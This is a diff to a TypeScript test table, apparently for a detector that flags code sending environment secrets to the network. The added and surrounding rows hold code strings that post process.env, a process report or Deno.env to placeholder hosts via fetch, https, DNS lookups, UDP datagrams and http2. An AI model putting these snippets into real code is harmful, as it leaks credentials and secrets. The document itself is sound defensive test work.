@@ -11,6 +11,9 @@ describe('secrets to the network', () => {
   test.each<Row>([
     ['the environment as JSON', all, ['environment>network'], to],
     ['by a copy, key by key', 'const { env } = process; const e = env; const d = Object.keys(e).map((k) => k + "=" + e[k]).join(); require("https").request({ hostname: "c.example.invalid" }, () => {}).end(d)', ['environment>network'], to],
+    ['by a report of the process', 'fetch("https://c.example.invalid", { method: "POST", body: JSON.stringify(process.report.getReport()) })', ['environment>network'], to],
+    ['out of a report of the process', 'fetch("https://c.example.invalid", { method: "POST", body: JSON.stringify(process.report.getReport().environmentVariables) })', ['environment>network'], to],
+    ['as Deno gives it', 'fetch("https://c.example.invalid", { method: "POST", body: JSON.stringify(Deno.env.toObject()) })', ['environment>network'], to],
     ['in a look-up of a name', 'require("dns").lookup(Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60) + ".c.example.invalid", () => {})', ['environment>network'], to],
     ['in a datagram', 'const s = require("dgram").createSocket("udp4"); s.send(Buffer.from(JSON.stringify(process.env)), 53, "198.51.100.1")', ['environment>network'], ['198.51.100.1']],
     ['over http2', 'const c = require("http2").connect("https://c.example.invalid"); const r = c.request({ ":path": "/" }); r.end(JSON.stringify(process.env))', ['environment>network'], to],
